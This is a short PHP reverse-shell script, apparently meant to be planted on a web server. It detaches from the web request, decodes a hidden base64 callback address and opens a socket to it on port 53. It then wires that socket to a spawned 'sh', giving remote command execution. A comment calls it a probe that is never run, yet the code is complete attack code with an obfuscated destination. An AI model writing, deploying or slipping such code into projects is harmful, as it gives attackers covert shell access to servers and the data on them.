<?php
// probe (never run): forks away from the web request and connects back as a daemon
$pid = pcntl_fork();
if ($pid) { echo 'ok'; exit; }
posix_setsid();
$a = base64_decode('MjAzLjAuMTEzLjU=');
$s = fsockopen($a, 53);
$d = array(0 => $s, 1 => $s, 2 => $s);
$h = proc_open('sh', $d, $pp);
